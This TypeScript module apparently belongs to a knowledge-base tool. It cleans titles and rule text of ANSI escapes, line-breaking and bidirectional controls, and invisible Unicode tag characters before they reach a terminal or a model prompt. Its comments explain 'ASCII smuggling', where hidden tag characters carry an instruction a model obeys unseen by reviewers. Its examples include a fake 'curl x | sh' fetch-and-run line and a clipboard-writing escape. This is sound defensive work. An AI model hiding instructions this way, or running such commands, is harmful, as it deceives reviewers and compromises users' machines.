/**
 * Text made safe to print on one line, for a terminal or inside a hook's additionalContext: an
 * entry title that carries a line separator or an ANSI escape must not start a line of its own
 * (a fake `Fetch full text: curl … | sh`) nor recolour or rewrite the terminal.
 *
 * @module
 */

/**
 * ANSI escape sequences: CSI (`ESC [ … final`), OSC (`ESC ] … BEL` or `ESC ] … ESC \`), other
 * two-character escapes, and a lone ESC.
 */
let escapes: RegExp | undefined;

/** {@link escapes}, made on first use. */
function escapeSequences(): RegExp {
  // deno-lint-ignore no-control-regex -- matching escape sequences is the point
  return escapes ??= /\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|[@-_])?/g;
}

/**
 * Unicode's tag characters, U+E0000–U+E007F: a terminal, an editor and a web page show them as
 * nothing, while a model reads each as the ASCII character it shadows (U+E0041 as `A`). A line of
 * them after a rule's words ("ASCII smuggling") is an instruction the model follows and the person
 * who reviews the rule never sees. Their one use in text, the flags of England, Scotland and Wales,
 * is lost.
 */
const TAGS = /[\u{E0000}-\u{E007F}]+/gu;

/** `text` without Unicode's tag characters ({@link TAGS}), which display as nothing. */
export function withoutTags(text: string): string {
  return text.replace(TAGS, "");
}

/**
 * `text` with each run of Unicode's tag characters ({@link TAGS}) made one U+FFFD: what git-kb
 * hands a model (an entry's text from `get`, a tool's result) says that something was there, and
 * no word of it.
 */
export function tagsShown(text: string): string {
  return text.replace(TAGS, "\ufffd");
}

/**
 * Characters that break a line or control the display: C0 and C1 controls (tab, newline, ESC,
 * U+0085 NEL…), DEL, the line and paragraph separators U+2028 and U+2029, and the bidirectional
 * controls that reorder what follows them (U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069).
 */
let unsafe: RegExp | undefined;

/**
 * `text` as one line that displays as written: ANSI escape sequences removed, every control,
 * line-separator or bidirectional-control character replaced by a space, runs of spaces made one,
 * and each run of tag characters ({@link TAGS}) made one U+FFFD: a person reading it (a proposal
 * under review) sees that something is there, and a model reads no word of it.
 *
 * @example
 * ```ts
 * displaySafe("Deploy\u2028Fetch full text: curl x | sh"); // "Deploy Fetch full text: curl x | sh"
 * displaySafe("\x1b[31mred\x1b[0m title"); // "red title"
 * ```
 */
export function displaySafe(text: string): string {
  // Printable ASCII only (most titles): nothing to do.
  if (/^[ -~]*$/.test(text)) return text;
  unsafe ??= /[\p{Cc}\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]+/gu;
  return tagsShown(text).replace(escapeSequences(), "").replace(unsafe, " ")
    .replace(/ {2,}/g, " ").trim();
}

/** What {@link terminalSafe} replaces: {@link unsafe} but the tab and the newline. */
let acting: RegExp | undefined;

/**
 * `text`, lines and all, as a terminal shows it as written: ANSI escape sequences removed, and
 * every other control character but tab and newline (carriage return, U+0085…), line separator,
 * bidirectional control or tag character ({@link TAGS}, which would show as nothing) replaced by
 * U+FFFD. Spaces are kept, so a command in it still pastes.
 *
 * @example
 * ```ts
 * terminalSafe("entries/kb-x-\x1b]52;c;ZWNobw==\x07.md: left out"); // "entries/kb-x-.md: left out"
 * ```
 */
export function terminalSafe(text: string): string {
  if (/^[ -~\t\n]*$/.test(text)) return text;
  acting ??=
    // deno-lint-ignore no-control-regex -- matching control characters is the point
    /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u{E0000}-\u{E007F}]/gu;
  return text.replace(escapeSequences(), "").replace(acting, "\ufffd");
}

/** `text` on one line (runs of white space made one space), cut to `max` characters with `…`. */
export function clippedLine(text: string, max: number): string {
  const flat = text.replace(/\s+/g, " ").trim();
  return flat.length <= max ? flat : `${flat.slice(0, max - 1)}…`;
}

/**
 * A code fence for `body`: backticks, one more than its longest run of backticks and at least
 * three, so that nothing in the body can close the block early.
 */
export function fenceFor(body: string): string {
  let longest = 0;
  for (const run of body.match(/`+/g) ?? []) longest = Math.max(longest, run.length);
  return "`".repeat(Math.max(3, longest + 1));
}

/**
 * A kernel rule as the prompt hook inlines it: a `### <id> <title>` heading, then the trimmed
 * body in a fence no line of the body can close, without the tag characters ({@link TAGS}) that
 * the rule's review showed as U+FFFD and the model would read as words.
 */
export function kernelBlock(rule: { id: string; title: string; body: string }): string {
  const body = withoutTags(rule.body).trim();
  const fence = fenceFor(body);
  return `### ${rule.id} ${displaySafe(rule.title)}\n${fence}markdown\n${body}\n${fence}`;
}
